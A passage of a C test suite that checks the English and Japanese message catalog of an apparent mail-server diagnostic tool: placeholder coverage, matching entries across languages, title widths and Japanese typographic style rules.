        for (size_t i = 0; i < n_ui_texts; i++)
            if (strcmp(key + 7, ui_texts[i].name) == 0)
                return ui_texts[i].params;
    if (strncmp(key, "scn.err.", 8) == 0)
        for (size_t i = 0; i < n_scn_errors; i++)
            if (strcmp(key + 8, scn_errors[i].name) == 0)
                return scn_errors[i].params;
    return "";
}

START_TEST(test_param_table_matches_registry)
{
    /* The table above must cover the registry exactly, or the test below would
     * silently allow nothing (or something stale). */
    ck_assert_uint_eq(n_finding_params, mxd_nfinding_defs);
    for (size_t i = 0; i < mxd_nfinding_defs; i++) {
        bool found = false;
        for (size_t j = 0; j < n_finding_params; j++)
            found = found || strcmp(finding_params[j].id, mxd_finding_defs[i].id) == 0;
        ck_assert_msg(found, "no parameter list in the test for %s", mxd_finding_defs[i].id);
    }
}
END_TEST

START_TEST(test_every_finding_explained)
{
    load_real();
    for (int l = 0; l < MXD_LANG_COUNT; l++) {
        const char *lc = mxd_lang_code((mxd_lang)l);
        for (size_t i = 0; i < mxd_nfinding_defs; i++) {
            const char *id = mxd_finding_defs[i].id;
            for (size_t f = 0; f < 4; f++) {
                const char *t = mxd_catalog_get(cats[l], id, finding_fields[f]);
                ck_assert_msg(t && *t, "%s: [%s] has no %s", lc, id, finding_fields[f]);
            }
            /* "what" is concrete: it names the host, record or number. */
            int n = check_placeholders(lc, id, "what", mxd_catalog_get(cats[l], id, "what"),
                                       allowed_for(id));
            ck_assert_msg(n > 0, "%s: [%s] what names nothing concrete", lc, id);
        }
    }
    free_real();
}
END_TEST

START_TEST(test_placeholders_known)
{
    load_real();
    for (int l = 0; l < MXD_LANG_COUNT; l++) {
        const char *lc = mxd_lang_code((mxd_lang)l);
        for (size_t i = 0; i < mxd_catalog_count(cats[l]); i++) {
            const char *key = mxd_catalog_key(cats[l], i);
            const char *allowed = allowed_for(key);
            const char *name, *text;
            for (size_t j = 0; (text = mxd_catalog_field(cats[l], i, j, &name)) != NULL; j++)
                check_placeholders(lc, key, name, text, allowed);
        }
    }
    free_real();
}
END_TEST

START_TEST(test_steps_sev_verdict_msgs)
{
    static const char *const sevs[] = { "sev.pass", "sev.info", "sev.skip",
                                        "sev.warn", "sev.fail", "sev.error" };
    static const char *const en_labels[] = { "PASS", "INFO", "SKIP", "WARN", "FAIL", "ERROR" };
    static const char *const verdicts[] = { "verdict.pass", "verdict.warn", "verdict.fail",
                                            "verdict.error" };
    load_real();
    for (int l = 0; l < MXD_LANG_COUNT; l++) {
        const char *lc = mxd_lang_code((mxd_lang)l);
        char key[64];
        for (size_t i = 0; i < mxd_nsteps; i++) {
            snprintf(key, sizeof key, "step.%s", mxd_steps[i].id);
            ck_assert_msg(mxd_catalog_get(cats[l], key, "title"), "%s: [%s] title", lc, key);
            ck_assert_msg(mxd_catalog_get(cats[l], key, "intro"), "%s: [%s] intro", lc, key);
        }
        ck_assert_msg(mxd_catalog_get(cats[l], "step.summary", "title"), "%s: summary", lc);
        ck_assert_msg(mxd_catalog_get(cats[l], "step.summary", "intro"), "%s: summary", lc);
        for (size_t i = 0; i < 6; i++) {
            const char *lab = mxd_catalog_get(cats[l], sevs[i], "label");
            ck_assert_msg(lab, "%s: [%s] label", lc, sevs[i]);
            if (l == MXD_LANG_EN)
                ck_assert_str_eq(lab, en_labels[i]);
        }
        for (size_t i = 0; i < 4; i++) {
            ck_assert_msg(mxd_catalog_get(cats[l], verdicts[i], "title"), "%s: [%s] title", lc,
                          verdicts[i]);
            ck_assert_msg(mxd_catalog_get(cats[l], verdicts[i], "text"), "%s: [%s] text", lc,
                          verdicts[i]);
        }
        for (size_t i = 0; i < sizeof required_msgs / sizeof required_msgs[0]; i++)
            ck_assert_msg(mxd_catalog_get(cats[l], required_msgs[i], "text"), "%s: [%s] text",
                          lc, required_msgs[i]);
        for (size_t i = 0; i < sizeof required_glossary / sizeof required_glossary[0]; i++) {
            snprintf(key, sizeof key, "glossary.%s", required_glossary[i]);
            ck_assert_msg(mxd_catalog_get(cats[l], key, "term"), "%s: [%s] term", lc, key);
            ck_assert_msg(mxd_catalog_get(cats[l], key, "text"), "%s: [%s] text", lc, key);
        }
    }
    free_real();
}
END_TEST

/* The text of key in language l exists and shows every placeholder of params
 * (space-separated names). */
static void assert_shows_all(mxd_lang l, const char *key, const char *params)
{
    const char *lc = mxd_lang_code(l);
    const char *t = mxd_catalog_get(cats[l], key, "text");
    ck_assert_msg(t && *t, "%s: [%s] text is missing", lc, key);
    char ph[64];
    for (const char *p = params; *p;) {
        while (*p == ' ')
            p++;
        size_t n = strcspn(p, " ");
        if (n == 0)
            break;
        snprintf(ph, sizeof ph, "{%.*s}", (int)n, p);
        ck_assert_msg(strstr(t, ph) != NULL, "%s: [%s] does not show %s", lc, key, ph);
        p += n;
    }
}

/* Every sentence the wizard uses is in both languages and fills every value
 * the wizard passes; no msg.ui.* entry is left over that the wizard never asks
 * for. (Placeholders outside the list fail test_placeholders_known.) */
START_TEST(test_ui_texts)
{
    load_real();
    ck_assert_uint_gt(n_ui_texts, 0);
    for (int l = 0; l < MXD_LANG_COUNT; l++) {
        const char *lc = mxd_lang_code((mxd_lang)l);
        char key[160];
        for (size_t i = 0; i < n_ui_texts; i++) {
            snprintf(key, sizeof key, "msg.ui.%s", ui_texts[i].name);
            assert_shows_all((mxd_lang)l, key, ui_texts[i].params);
        }
        for (size_t i = 0; i < mxd_catalog_count(cats[l]); i++) {
            const char *k = mxd_catalog_key(cats[l], i);
            if (strncmp(k, "msg.ui.", 7) != 0)
                continue;
            bool used = false;
            for (size_t j = 0; j < n_ui_texts && !used; j++)
                used = strcmp(k + 7, ui_texts[j].name) == 0;
            ck_assert_msg(used, "%s: [%s] is not used by the wizard (MXD_UI_TEXTS)", lc, k);
        }
    }
    free_real();
}
END_TEST

/* Every scenario error is in both languages, shows every value the parser
 * gives (a teacher must see which word in the file is wrong), and every word
 * the what/why/form values name exists; nothing under scn.* is left over that
 * the parser never uses. (Other placeholders fail test_placeholders_known.) */
START_TEST(test_scenario_texts)
{
    load_real();
    ck_assert_uint_gt(n_scn_errors, 90);
    for (int l = 0; l < MXD_LANG_COUNT; l++) {
        const char *lc = mxd_lang_code((mxd_lang)l);
        char key[160];
        for (size_t i = 0; i < n_scn_errors; i++) {
            snprintf(key, sizeof key, "scn.err.%s", scn_errors[i].name);
            ck_assert_str_eq(mxd_scn_error_key((mxd_scn_errcode)(i + 1)), key);
            assert_shows_all((mxd_lang)l, key, scn_errors[i].params);
        }
        for (size_t i = 0; i < n_scn_terms; i++) {
            snprintf(key, sizeof key, "scn.%s", scn_terms[i]);
            ck_assert_str_eq(mxd_scn_term_key((mxd_scn_term)i), key);
            const char *t = mxd_catalog_get(cats[l], key, "text");
            ck_assert_msg(t && *t, "%s: [%s] text is missing", lc, key);
        }
        for (size_t i = 0; i < mxd_catalog_count(cats[l]); i++) {
            const char *k = mxd_catalog_key(cats[l], i);
            if (strncmp(k, "scn.", 4) != 0)
                continue;
            bool used = false;
            for (size_t j = 0; j < n_scn_errors && !used; j++) {
                snprintf(key, sizeof key, "scn.err.%s", scn_errors[j].name);
                used = strcmp(k, key) == 0;
            }
            for (size_t j = 0; j < n_scn_terms && !used; j++) {
                snprintf(key, sizeof key, "scn.%s", scn_terms[j]);
                used = strcmp(k, key) == 0;
            }
            ck_assert_msg(used, "%s: [%s] is not used by the scenario parser", lc, k);
        }
    }
    free_real();
}
END_TEST

START_TEST(test_languages_match)
{
    /* The two languages say the same things: same entries, same fields. */
    load_real();
    for (int l = 0; l < MXD_LANG_COUNT; l++) {
        const mxd_catalog *a = cats[l], *b = cats[1 - l];
        for (size_t i = 0; i < mxd_catalog_count(a); i++) {
            const char *key = mxd_catalog_key(a, i);
            const char *name;
            for (size_t j = 0; mxd_catalog_field(a, i, j, &name); j++)
                ck_assert_msg(mxd_catalog_get(b, key, name), "[%s] %s is in %s but not in %s",
                              key, name, mxd_lang_code((mxd_lang)l),
                              mxd_lang_code((mxd_lang)(1 - l)));
        }
    }
    free_real();
}
END_TEST

/* A realistic value for a placeholder: numbers are short, names are not. */
static const char *sample_value(const char *name)
{
    static const struct { const char *name, *value; } samples[] = {
        { "port", "25" }, { "code", "421" }, { "pref", "10" }, { "count", "3" },
        { "ttl", "3600" }, { "seconds", "5" }, { "bytes", "24" },
    };
    for (size_t i = 0; i < sizeof samples / sizeof samples[0]; i++)
        if (strcmp(samples[i].name, name) == 0)
            return samples[i].value;
    return "mail.example.jp"; /* 15 characters: a typical host or domain */
}

/* Every finding title, filled with realistic values for its placeholders, must
 * fit a panel on an 80-column screen. */
START_TEST(test_title_widths)
{
    load_real();
    for (int l = 0; l < MXD_LANG_COUNT; l++) {
        for (size_t i = 0; i < mxd_catalog_count(cats[l]); i++) {
            const char *key = mxd_catalog_key(cats[l], i);
            if (!mxd_catalog_get(cats[l], key, "title"))
                continue;
            const char *allowed = allowed_for(key);
            mxd_param ps[8];
            char names[8][32];
            size_t np = 0;
            for (const char *p = allowed; *p && np < 8;) {
                while (*p == ' ')
                    p++;
                size_t n = strcspn(p, " ");
                snprintf(names[np], sizeof names[np], "%.*s", (int)n, p);
                ps[np].key = names[np];
                ps[np].value = (char *)sample_value(names[np]);
                np++;
                p += n;
            }
            char *t = mxd_catalog_format(cats[l], key, "title", ps, np);
            ck_assert_ptr_nonnull(t);
            ck_assert_msg(strchr(t, '\n') == NULL, "[%s] title has a line break", key);
            if (l == MXD_LANG_JA) {
                /* A CJK encoding counts East Asian ambiguous characters (→, …)
                 * as two columns, as Japanese terminals usually draw them. */
                int w = u8_strwidth((const uint8_t *)t, "EUC-JP");
                ck_assert_msg(w <= 60, "ja [%s] title is %d columns: %s", key, w, t);
            } else {
                size_t n = u8_mbsnlen((const uint8_t *)t, strlen(t));
                ck_assert_msg(n <= 60, "en [%s] title is %zu characters: %s", key, n, t);
            }
            free(t);
        }
    }
    free_real();
}
END_TEST

/* Style rules from WRITING.md that a machine can check. */
START_TEST(test_style)
{
    load_real();
    for (int l = 0; l < MXD_LANG_COUNT; l++) {
        for (size_t i = 0; i < mxd_catalog_count(cats[l]); i++) {
            const char *key = mxd_catalog_key(cats[l], i);
            const char *name, *text;
            for (size_t j = 0; (text = mxd_catalog_field(cats[l], i, j, &name)) != NULL; j++) {
                ck_assert_msg(strchr(text, '!') == NULL && strstr(text, "！") == NULL,
                              "%s [%s] %s: no exclamation marks", mxd_lang_code((mxd_lang)l),
                              key, name);
                if (l != MXD_LANG_JA)
                    continue;
                /* 半角 for ASCII: no full-width digits or Latin letters. */
                ucs4_t uc;
                for (const uint8_t *p = (const uint8_t *)text; *p;) {
                    int n = u8_strmbtouc(&uc, p);
                    ck_assert_int_gt(n, 0);
                    ck_assert_msg(!((uc >= 0xFF10 && uc <= 0xFF19) ||
                                    (uc >= 0xFF21 && uc <= 0xFF3A) ||
                                    (uc >= 0xFF41 && uc <= 0xFF5A)),
                                  "ja [%s] %s: full-width letter or digit U+%04X", key, name,
                                  (unsigned)uc);
                    p += n;
                }
                if (strcmp(name, "title") == 0 || strcmp(name, "label") == 0 ||
                    strcmp(name, "term") == 0) {
                    size_t len = strlen(text);
                    ck_assert_msg(len < 3 || strcmp(text + len - 3, "。") != 0,
                                  "ja [%s] %s should not end with 。", key, name);
                }
            }
        }
    }
    free_real();
}
END_TEST

static Suite *catalog_suite(void)
{
    Suite *s = suite_create("catalog");
    TCase *tc = tcase_create("parse");
    tcase_add_test(tc, test_parse_good);
    tcase_add_loop_test(tc, test_parse_errors, 0, (int)(sizeof bad_cases / sizeof bad_cases[0]));
    tcase_add_test(tc, test_parse_duplicate_names_first);
    tcase_add_test(tc, test_parse_nul_byte);
    tcase_add_test(tc, test_parse_empty);
    tcase_add_test(tc, test_parse_escapes);
    tcase_add_test(tc, test_parse_crlf_and_bom);
    tcase_add_test(tc, test_load_sorted_and_filtered);
    tcase_add_test(tc, test_help_dir_env);
    suite_add_tcase(s, tc);

    tc = tcase_create("format");
    tcase_add_test(tc, test_format);
    tcase_add_test(tc, test_format_sanitises_params);
    suite_add_tcase(s, tc);

    tc = tcase_create("lang");
    tcase_add_test(tc, test_format_command_lines_refuse_unsafe_names);
    tcase_add_test(tc, test_lang_from_env);
    tcase_add_test(tc, test_lang_parse);
    suite_add_tcase(s, tc);

    tc = tcase_create("texts");
    tcase_add_test(tc, test_param_table_matches_registry);
    tcase_add_test(tc, test_every_finding_explained);
    tcase_add_test(tc, test_placeholders_known);
    tcase_add_test(tc, test_steps_sev_verdict_msgs);
    tcase_add_test(tc, test_ui_texts);
    tcase_add_test(tc, test_scenario_texts);
    tcase_add_test(tc, test_languages_match);
    tcase_add_test(tc, test_title_widths);
    tcase_add_test(tc, test_style);
    suite_add_tcase(s, tc);
    return s;
}

int main(void)
{
    SRunner *sr = srunner_create(catalog_suite());
    srunner_run_all(sr, CK_NORMAL);
    int failed = srunner_ntests_failed(sr);
    srunner_free(sr);
    return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
